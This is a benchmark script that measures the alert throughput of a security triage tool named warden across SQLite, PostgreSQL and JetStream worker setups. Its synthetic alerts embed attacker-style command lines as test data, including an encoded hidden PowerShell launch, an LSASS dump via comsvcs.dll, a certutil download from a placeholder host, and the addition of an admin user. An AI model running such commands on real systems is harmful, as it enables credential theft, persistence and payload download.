#!/bin/bash
# Alerts/s in one run on the same generated alerts: SQLite single node,
# PostgreSQL single node (both `warden triage`), and 1, 2 and 3 JetStream
# workers on PostgreSQL behind a publishing `warden serve` (clock from the
# first POST until the last alert is stored), with where the workers' time
# went (pipeline, commit, chain-lock wait). Needs a release build, psql, and
# the PostgreSQL and NATS servers of the development machine:
#   cargo build --release -p warden
#   scripts/scale-bench.sh [ALERTS]
set -euo pipefail
n=${1:-100000}
pg=${WARDEN_TEST_POSTGRES_URL:-postgres://postgres@127.0.0.1:5432/test}
nats=${WARDEN_TEST_NATS_URL:-nats://127.0.0.1:4222}
here=$(cd "$(dirname "$0")/.." && pwd)
warden=${WARDEN:-$here/target/release/warden}
work=$(mktemp -d /tmp/scale-bench.XXXXXX)
pids=()
cleanup() {
    for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
    rm -rf "$work"
}
trap cleanup EXIT

# Alerts that differ (hosts, users, command lines) so each is analysed and stored.
awk -v n="$n" 'BEGIN {
    split("powershell.exe -nop -w hidden -enc|cmd.exe /c whoami /all|rundll32.exe comsvcs.dll MiniDump|certutil -urlcache -f http://x/a|net user admin /add|schtasks /create /tn upd", cmds, "|")
    for (i = 0; i < n; i++)
        printf "{\"@timestamp\":\"2026-11-30T%02d:%02d:%02dZ\",\"message\":\"%s %08x\",\"host\":\"ws%d\",\"user\":\"u%d\",\"event_id\":4688}\n", (i / 3600) % 24, (i / 60) % 60, i % 60, cmds[i % 6 + 1], i, i % 60, i % 17
}' > "$work/alerts.ndjson"
split -l 1000 "$work/alerts.ndjson" "$work/chunk."

rate() { awk -v n="$n" -v s="$1" 'BEGIN { printf "%.0f", n / s }'; }
stored() { psql -qtA "$pg" -c "SELECT count(*) FROM $1.alerts" 2>/dev/null || echo 0; }

declare -A rates
echo "alerts: $n"

# 1. SQLite, one node.
mkdir -p "$work/sqlite"
/usr/bin/time -o "$work/t" -f %e "$warden" --data "$work/sqlite" triage --output jsonl "$work/alerts.ndjson" > /dev/null 2>"$work/sqlite.err"
s=$(cat "$work/t")
rates[sqlite]=$(rate "$s"); echo "SQLite, one node (triage):        ${s} s  ${rates[sqlite]} alerts/s"

# 2. PostgreSQL, one node.
schema=bench_single_$$
printf '[store]\nurl = "%s"\nschema = "%s"\n' "$pg" "$schema" > "$work/single.toml"
mkdir -p "$work/single"
/usr/bin/time -o "$work/t" -f %e "$warden" --config "$work/single.toml" --data "$work/single" triage --output jsonl "$work/alerts.ndjson" > /dev/null 2>"$work/single.err"
s=$(cat "$work/t")
rates[pg]=$(rate "$s"); echo "PostgreSQL, one node (triage):    ${s} s  ${rates[pg]} alerts/s"
psql -q "$pg" -c "DROP SCHEMA $schema CASCADE" 2>/dev/null

# 3. JetStream workers on PostgreSQL.
for workers in 1 2 3; do
    tag=bench_${workers}_$$
    cfg() {
        printf '[store]\nurl = "%s"\nschema = "%s"\n\n[queue]\nnats_url = "%s"\nstream = "%s"\nsubject = "warden.%s"\npublish = %s\n' \
            "$pg" "$tag" "$nats" "${tag^^}" "$tag" "$1"
    }
    cfg true > "$work/$tag-server.toml"
    cfg false > "$work/$tag-worker.toml"
    mkdir -p "$work/$tag/server"
    WARDEN_API_TOKEN=bench "$warden" --config "$work/$tag-server.toml" --data "$work/$tag/server" serve --bind 127.0.0.1:0 2>"$work/$tag/server.err" &
    pids+=($!)
    until grep -qs "warden listening on" "$work/$tag/server.err"; do sleep 0.1; done
    addr=$(sed -n 's/.*warden listening on http:\/\///p' "$work/$tag/server.err")
    wpids=()
    for w in $(seq 1 "$workers"); do
        mkdir -p "$work/$tag/w$w"
        "$warden" --config "$work/$tag-worker.toml" --data "$work/$tag/w$w" worker 2>"$work/$tag/w$w.err" &
        wpids+=($!); pids+=($!)
    done
    for w in $(seq 1 "$workers"); do until grep -qs "taking alerts" "$work/$tag/w$w.err"; do sleep 0.1; done; done
    start=$(date +%s.%N)
    for c in "$work"/chunk.*; do
        curl -sf -o /dev/null -H "Authorization: Bearer bench" -H "Content-Type: application/x-ndjson" \
            --data-binary "@$c" "http://$addr/api/v1/alerts"
    done
    published=$(date +%s.%N)
    while [ "$(stored "$tag")" -lt "$n" ]; do sleep 0.2; done
    end=$(date +%s.%N)
    s=$(awk -v a="$start" -v b="$end" 'BEGIN { printf "%.2f", b - a }')
    p=$(awk -v a="$start" -v b="$published" 'BEGIN { printf "%.2f", b - a }')
    rates[$workers]=$(rate "$s")
    kill -TERM "${wpids[@]}"
    wait "${wpids[@]}" 2>/dev/null || true
    echo "JetStream, $workers worker(s) on PostgreSQL: ${s} s  ${rates[$workers]} alerts/s (all published after ${p} s)"
    for w in $(seq 1 "$workers"); do
        sed -n 's/^warden worker: stopped after /    worker '"$w"': /p' "$work/$tag/w$w.err"
    done
    psql -q "$pg" -c "DROP SCHEMA $tag CASCADE" 2>/dev/null
done
echo
ratio() { awk -v a="$1" -v b="$2" 'BEGIN { printf "%.2f", a / b }'; }
echo "against SQLite one node: PostgreSQL one node $(ratio "${rates[pg]}" "${rates[sqlite]}")x; 1 worker $(ratio "${rates[1]}" "${rates[sqlite]}")x; 2 workers $(ratio "${rates[2]}" "${rates[sqlite]}")x; 3 workers $(ratio "${rates[3]}" "${rates[sqlite]}")x"
echo "2 workers / 1 worker: $(ratio "${rates[2]}" "${rates[1]}")x; 3 workers / 1 worker: $(ratio "${rates[3]}" "${rates[1]}")x"
